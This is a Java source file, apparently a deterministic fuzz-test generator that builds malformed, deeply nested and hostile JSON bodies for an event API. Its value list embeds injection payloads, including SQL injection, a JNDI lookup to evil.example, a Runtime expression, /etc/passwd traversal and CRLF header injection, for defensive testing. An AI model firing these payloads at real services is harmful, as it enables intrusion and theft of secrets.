package io.capstream.event;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Bodies that no honest caller posts, made from the samples of all events. The same seed and number give the same body, so that a
 * failure can be repeated.
 */
public final class HostileBodies {

    private static final List<Charset> CHARSETS = List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE, StandardCharsets.UTF_16,
            StandardCharsets.ISO_8859_1, Charset.forName("UTF-32LE"), Charset.forName("UTF-32BE"));

    /** What is put in the place of a value. */
    private static final List<String> VALUES = List.of(
            "null", "true", "false", "\"\"", "\" \"", "\"null\"", "-1", "0", "-0", "-0.0", "1E999999999", "-1E-999999999", "1e400", "1E+19",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999", "0.1e1", "1e19",
            "8640000000000001", "253402300800000", "-62135596800001", "1795509000000.5", "\"1795509000000\"", "\"2026-02-30\"",
            "\"2026-02-28T25:61:61Z\"", "\"+999999999-12-31T23:59:59Z\"", "\"-999999999-01-01\"", "\"2026-02-28T10:00:00+99:00\"",
            "{}", "[]", "[[]]", "[{}]", "{\"\":{\"\":\"\"}}", "[null]", "[null,{\"a\":null}]",
            "NaN", "Infinity", "+1", "01", ".5", "1.", "'x'",
            "\"\\u0000\"", "\"\\u0001\\u001f\\u007f\\u0085\"", "\"\\ud800\"", "\"\\udfff\\ud800\"",
            "\"\\ud83d\\ude00\"", "\"\u202e\u200b\ufeff\"",
            "\"\uffff\u2028\u2029\"", "\"a\nb\"", "\"' OR '1'='1\"", "\"'; drop table event; --\"", "\"${jndi:ldap://evil.example/x}\"",
            "\"${body.class}\"", "\"#{T(java.lang.Runtime)}\"", "\"{{platform.client-secret}}\"", "\"../../../etc/passwd\"", "\"%s%n%x\"",
            "\"<script>\"", "\"a@b\"", "\"@\"", "\"+\"", "\"00000000000000000000000000000000000000000\"", "\"=cmd()\"", "\"\r\nX: y\"");
    private static final List<String> NAMES = List.of(
            "", " ", "eventName", "eventId", "orgId", "data", "attributes", "event", "body", "createdAt",
            "customerIdentifiers", "customerId", "entityInformation", "\\u0000", "\\u0001\\u007f", "\\ud800", "a.b", "$", "@type",
            "_id", "__proto__", "class", "\u202e", "x-y z", "[0]");

    private final List<String> samples;
    private final long seed;

    public HostileBodies(long seed) {
        this.seed = seed;
        this.samples = Samples.all().stream().map(HostileBodies::text).toList();
    }

    private static String text(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException unreadable) {
            throw new UncheckedIOException(unreadable);
        }
    }

    /** The body with this number. */
    public byte[] body(long number) {
        Random random = new Random(seed * 1_000_003 + number);
        return switch (random.nextInt(16)) {
            case 0 -> rubbish(random);
            case 1 -> nested(random).getBytes(StandardCharsets.UTF_8);
            case 2 -> bytesChanged(sample(random).getBytes(StandardCharsets.UTF_8), random);
            case 3 -> bytesChanged(changed(random).getBytes(StandardCharsets.UTF_8), random);
            case 4 -> changed(random).getBytes(CHARSETS.get(random.nextInt(CHARSETS.size())));
            case 5 -> array(random).getBytes(StandardCharsets.UTF_8);
            case 6 -> enveloped(changed(random), random).getBytes(StandardCharsets.UTF_8);
            case 7 -> large(random).getBytes(StandardCharsets.UTF_8);
            default -> changed(random).getBytes(StandardCharsets.UTF_8);
        };
    }

    private String sample(Random random) {
        return samples.get(random.nextInt(samples.size()));
    }

    /** A sample with some values, names or whole parts in each other's place, JSON or nearly. */
    private String changed(Random random) {
        StringBuilder text = new StringBuilder(sample(random));
        for (int changes = 1 + random.nextInt(5); changes > 0; changes--) {
            int colon = text.indexOf(":", random.nextInt(text.length()));
            int end = colon < 0 ? -1 : endOfValue(text, colon + 1);
            if (end < 0) {
                continue;
            }
            switch (random.nextInt(6)) {
                case 0 -> text.insert(end, ",\"" + pick(NAMES, random) + "\":" + value(random));
                case 1 -> text.insert(end, "," + text.substring(Math.max(0, text.lastIndexOf("\"", Math.max(0, colon - 2))), end));
                case 2 -> rename(text, colon, random);
                default -> text.replace(colon + 1, end, value(random));
            }
        }
        return text.toString();
    }

    private static void rename(StringBuilder text, int colon, Random random) {
        int close = text.lastIndexOf("\"", colon);
        int open = close < 1 ? -1 : text.lastIndexOf("\"", close - 1);
        if (open >= 0) {
            text.replace(open + 1, close, pick(NAMES, random));
        }
    }

    /** The end of a plain value, or of a whole object or array where its brackets match. */
    private static int endOfValue(CharSequence text, int from) {
        int depth = 0;
        boolean quoted = false;
        for (int i = from; i < text.length(); i++) {
            char c = text.charAt(i);
            if (c == '"' && text.charAt(i - 1) != '\\') {
                quoted = !quoted;
            } else if (!quoted && (c == '{' || c == '[')) {
                depth++;
            } else if (!quoted && (c == '}' || c == ']' || c == ',') && depth == 0) {
                return i;
            } else if (!quoted && (c == '}' || c == ']')) {
                depth--;
            }
        }
        return -1;
    }

    private static String value(Random random) {
        return switch (random.nextInt(40)) {
            case 0 -> nested(random);
            case 1 -> '"' + "é".repeat(random.nextInt(3000)) + '"';
            case 2 -> "1".repeat(1 + random.nextInt(1500));
            case 3 -> "0." + "3".repeat(1 + random.nextInt(500)) + "e" + random.nextInt(5000);
            case 4 -> '"' + "9".repeat(1 + random.nextInt(400)) + '"';
            default -> pick(VALUES, random);
        };
    }

    private static String pick(List<String> list, Random random) {
        return list.get(random.nextInt(list.size()));
    }

    private static String nested(Random random) {
        int depth = 1 + random.nextInt(random.nextInt(20) == 0 ? 20_000 : 1200);
        String start = random.nextBoolean() ? "" : "{\"eventName\":\"tierUpgraded\",\"data\":";
        boolean closed = random.nextBoolean();
        return random.nextBoolean()
                ? start + "[".repeat(depth) + (closed ? "]".repeat(depth) : "") + (start.isEmpty() ? "" : "}")
                : start + "{\"data\":".repeat(depth) + "1" + (closed ? "}".repeat(depth) : "") + (start.isEmpty() ? "" : "}");
    }

    private String array(Random random) {
        return Stream.generate(() -> random.nextInt(4) == 0 ? value(random) : changed(random))
                .limit(random.nextInt(8))
                .collect(Collectors.joining(random.nextInt(10) == 0 ? "" : ",", "[", random.nextInt(10) == 0 ? "" : "]"));
    }

    private static String enveloped(String event, Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> "{\"event\":{\"body\":" + event + "}}";
            case 1 -> "{\"body\":" + event + '}';
            case 2 -> "{\"data\":" + event + ",\"errors\":null}";
            case 3 -> "{\"eventId\":" + value(random) + ",\"attributes\":" + event + ",\"timeStamp\":" + value(random) + '}';
            default -> "{\"attributes\":" + event + ",\"eventName\":" + value(random) + ",\"body\":" + event + '}';
        };
    }

    private String large(Random random) {
        if (random.nextInt(10) > 0) {
            return changed(random);
        }
        String part = random.nextBoolean() ? "1," : "{\"a\":\"b\"},";
        return "{\"eventName\":\"transactionAdded\",\"eventId\":\"" + random.nextLong() + "\",\"data\":{\"lineItems\":["
                + part.repeat(random.nextInt(20_000)) + "0],\"x\":\"" + "y".repeat(random.nextInt(100_000)) + "\"}}";
    }

    private static byte[] rubbish(Random random) {
        byte[] bytes = new byte[random.nextInt(300)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] bytesChanged(byte[] body, Random random) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(body.length + 16);
        int every = 1 + random.nextInt(2 * body.length);
        int cut = random.nextInt(3) == 0 ? random.nextInt(body.length) : body.length;
        for (int i = 0; i < cut; i++) {
            if (random.nextInt(every) > 0) {
                out.write(body[i]);
                continue;
            }
            switch (random.nextInt(4)) {
                case 0 -> out.write(random.nextInt(256));
                case 1 -> out.writeBytes(new byte[] {(byte) 0xC0, (byte) 0xAF});
                case 2 -> out.writeBytes(new byte[] {body[i], body[i]});
                default -> out.write(body[i] ^ 1 << random.nextInt(8));
            }
        }
        return out.toByteArray();
    }
}
